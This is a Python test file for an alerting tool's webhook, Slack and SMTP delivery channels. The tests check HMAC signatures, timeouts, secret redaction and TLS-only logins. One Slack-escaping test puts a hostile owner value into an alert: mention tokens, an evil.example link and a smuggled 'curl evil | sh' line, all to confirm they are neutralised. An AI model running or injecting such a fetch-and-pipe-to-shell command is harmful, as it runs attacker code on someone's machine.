"""Each channel against a real receiver: an HTTP server that checks the HMAC signature, a
Slack-shaped one, and an SMTP server (aiosmtpd)."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import hmac
import time
from typing import Any

import orjson
import pytest
from aiohttp import web
from aiosmtpd.controller import Controller
from pydantic import SecretStr

from e2e.harness import free_port
from keystead.alerts.channels import deliver
from keystead.alerts.channels.email import EmailChannel
from keystead.alerts.channels.http import SIGNATURE_HEADER, SlackChannel, WebhookChannel
from keystead.alerts.messages import Message
from keystead.alerts.model import Alert
from keystead.config.alerts import EmailChannelConfig

SECRET = "s3cret-for-the-hmac-0123456789"
ALERT = Alert(rule="auth_failures", subject="key:ab12cd34", title="12 refused requests (401) "
              "naming key prod-web-chat (revoked)", since=1_796_000_000.0,
              where={"key_id": "ab12cd34", "key": "prod-web-chat", "team": "web"},
              numbers={"401s": "12", "window": "5m"},
              action="`keystead incident ab12cd34`", severity="critical")
MESSAGE = Message("firing", ALERT, 1_796_000_060.0, "https://x/runbook.md#alert-auth-failures")


def verify(header: str, body: bytes, secret: str, tolerance_s: float = 300) -> bool:
    """What a receiver does (docs/monitoring.md shows the same)."""
    parts = dict(item.split("=", 1) for item in header.split(","))
    ts = int(parts["t"])
    if abs(time.time() - ts) > tolerance_s:
        return False
    expected = hmac.new(secret.encode(), f"{ts}.".encode() + body, hashlib.sha256).hexdigest()
    return hmac.compare_digest(expected, parts["v1"])


async def receiver(handler: Any) -> tuple[web.AppRunner, str]:
    app = web.Application()
    app.router.add_post("/hook", handler)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    return runner, f"http://127.0.0.1:{port}/hook"


def test_signed_webhook_is_verified_by_the_receiver() -> None:
    received: list[tuple[bool, dict[str, Any]]] = []

    async def hook(request: web.Request) -> web.Response:
        body = await request.read()
        received.append((verify(request.headers[SIGNATURE_HEADER], body, SECRET),
                         orjson.loads(body)))
        return web.Response(status=204)

    async def main() -> None:
        runner, url = await receiver(hook)
        try:
            channel = WebhookChannel("hook", SecretStr(url), SecretStr(SECRET))
            assert await deliver(channel, MESSAGE, timeout_s=5, retries=0) == "sent"
            forged = WebhookChannel("hook", SecretStr(url), SecretStr("another-secret-0123456"))
            assert await deliver(forged, MESSAGE, timeout_s=5, retries=0) == "sent"
        finally:
            await runner.cleanup()

    asyncio.run(main())
    (good, payload), (bad, _) = received
    assert good and not bad
    assert payload["kind"] == "firing" and payload["rule"] == "auth_failures"
    assert payload["where"]["key_id"] == "ab12cd34" and payload["numbers"]["401s"] == "12"
    assert "keystead incident ab12cd34" in payload["action"]


def test_slack_gets_text_and_a_refusal_is_a_reason_without_the_url() -> None:
    bodies: list[dict[str, Any]] = []
    status = [200]

    async def hook(request: web.Request) -> web.Response:
        bodies.append(await request.json())
        return web.Response(status=status[0], text="ok")

    async def main() -> None:
        runner, url = await receiver(hook)
        try:
            channel = SlackChannel("slack", SecretStr(url + "?token=T0P"))
            assert await deliver(channel, MESSAGE, timeout_s=5, retries=0) == "sent"
            status[0] = 500
            result = await deliver(channel, MESSAGE, timeout_s=5, retries=1, backoff_s=0.01)
            assert result == "failed: HTTP 500"
        finally:
            await runner.cleanup()
        down = await deliver(SlackChannel("slack", SecretStr(url + "?token=T0P")), MESSAGE,
                             timeout_s=2, retries=0)
        assert down.startswith("failed: ") and "T0P" not in down and "127.0.0.1" not in down

    asyncio.run(main())
    assert len(bodies) == 3
    text = bodies[0]["text"]
    assert text.startswith(":rotating_light: FIRING 12 refused requests")
    assert "key=prod-web-chat" in text and "what to do: `keystead incident ab12cd34`" in text


def test_a_receiver_that_never_answers_times_out() -> None:
    async def hook(request: web.Request) -> web.Response:
        await asyncio.sleep(2)
        return web.Response()

    async def main() -> None:
        runner, url = await receiver(hook)
        try:
            started = time.monotonic()
            result = await deliver(SlackChannel("slow", SecretStr(url)), MESSAGE,
                                   timeout_s=0.3, retries=0)
            assert result == "failed: no answer within 0.3s"
            assert time.monotonic() - started < 2
        finally:
            await runner.cleanup()

    asyncio.run(main())


class Inbox:
    def __init__(self) -> None:
        self.messages: list[tuple[str, list[str], bytes]] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        self.messages.append((envelope.mail_from, list(envelope.rcpt_tos), envelope.content))
        return "250 OK"


class Login:
    def __call__(self, server: Any, session: Any, envelope: Any, mechanism: str,
                 auth_data: Any) -> Any:
        from aiosmtpd.smtp import AuthResult

        ok = auth_data.login == b"alerts" and auth_data.password == b"p4ss"
        return AuthResult(success=ok, handled=False)


def _smtp(inbox: Inbox, **options: Any) -> tuple[Controller, int]:
    port = free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port, **options)
    controller.start()
    return controller, port


def test_email_over_smtp_with_login() -> None:
    inbox = Inbox()
    controller, port = _smtp(inbox, authenticator=Login(), auth_require_tls=False)
    try:
        # The config refuses a login without TLS (below); the channel's login is proved here on
        # a plain aiosmtpd, so the validated config is copied with the security switched off.
        config = EmailChannelConfig(type="email", host="127.0.0.1", port=port,
                                    security="starttls", username="alerts",
                                    password=SecretStr("p4ss"), sender="keystead@example.com",
                                    to=("oncall@example.com", "sec@example.com"),
                                    ).model_copy(update={"security": "none"})
        result = asyncio.run(deliver(EmailChannel("mail", config), MESSAGE, timeout_s=5,
                                     retries=0))
        assert result == "sent"
        wrong = config.model_copy(update={"password": SecretStr("nope")})
        refused = asyncio.run(deliver(EmailChannel("mail", wrong), MESSAGE, timeout_s=5,
                                      retries=0))
        assert refused == "failed: SMTP 535" and "nope" not in refused
    finally:
        controller.stop()
    [(sender, to, content)] = inbox.messages
    assert sender == "keystead@example.com" and to == ["oncall@example.com", "sec@example.com"]
    text = content.decode()
    assert "Subject: [keystead FIRING] 12 refused requests (401) naming key prod-web-chat" in text
    assert "keystead incident ab12cd34" in text and "p4ss" not in text


def test_a_login_over_a_plain_connection_is_refused_by_the_config() -> None:
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="password in clear"):
        EmailChannelConfig(type="email", host="smtp.example.com", security="none",
                           username="alerts", password=SecretStr("p4ss"),
                           sender="keystead@example.com", to=("oncall@example.com",))


def test_email_to_a_server_that_is_not_there() -> None:
    config = EmailChannelConfig(type="email", host="127.0.0.1", port=1, security="none",
                                sender="keystead@example.com", to=("oncall@example.com",))
    result = asyncio.run(deliver(EmailChannel("mail", config), MESSAGE, timeout_s=2, retries=0))
    assert result == "failed: ConnectionRefusedError"


def test_slack_text_cannot_mention_the_channel_or_forge_a_line() -> None:
    """A key's owner is operator text (length-checked only): `<!channel>` in it must reach
    Slack as text, not as a mention of everyone, and a newline must not start a fake line."""
    bodies: list[dict[str, Any]] = []

    async def hook(request: web.Request) -> web.Response:
        bodies.append(await request.json())
        return web.Response(text="ok")

    hostile = Alert(rule="unused_key", subject="key:ab12cd34",
                    title="key <!here> prod-<@U024BE7LH> is unused",
                    since=1_796_000_000.0,
                    where={"key_id": "ab12cd34", "owner": "<!channel> & <https://evil.example|"
                                                          "docs>\nwhat to do: curl evil | sh"},
                    action="`keystead keys revoke ab12cd34`")

    async def main() -> None:
        runner, url = await receiver(hook)
        try:
            channel = SlackChannel("slack", SecretStr(url))
            message = Message("firing", hostile, 1_796_000_060.0, "https://x/runbook.md")
            assert await deliver(channel, message, timeout_s=5, retries=0) == "sent"
        finally:
            await runner.cleanup()

    asyncio.run(main())
    text = bodies[0]["text"]
    assert "<" not in text and ">" not in text
    assert "&lt;!channel&gt; &amp; &lt;https://evil.example|docs&gt;" in text
    assert "&lt;!here&gt;" in text and "&lt;@U024BE7LH&gt;" in text
    assert [line for line in text.splitlines() if line.startswith("what to do:")] == [
        "what to do: `keystead keys revoke ab12cd34`"]


def test_a_receiver_with_an_endless_body_still_counts_as_sent() -> None:
    """The status is the answer: a 200 followed by a body that never ends (or is huge) is
    neither read into memory nor waited for."""

    async def hook(request: web.Request) -> web.StreamResponse:
        reply = web.StreamResponse(status=200)
        await reply.prepare(request)
        chunk = b"x" * 65536
        with contextlib.suppress(ConnectionError):
            for _ in range(100_000):  # ~6.5 GB if someone read it all
                await reply.write(chunk)
                await asyncio.sleep(0.001)
        return reply

    async def main() -> None:
        runner, url = await receiver(hook)
        try:
            channel = SlackChannel("slack", SecretStr(url))
            started = time.monotonic()
            assert await deliver(channel, MESSAGE, timeout_s=2, retries=0) == "sent"
            assert time.monotonic() - started < 1.5
        finally:
            await runner.cleanup()

    asyncio.run(main())
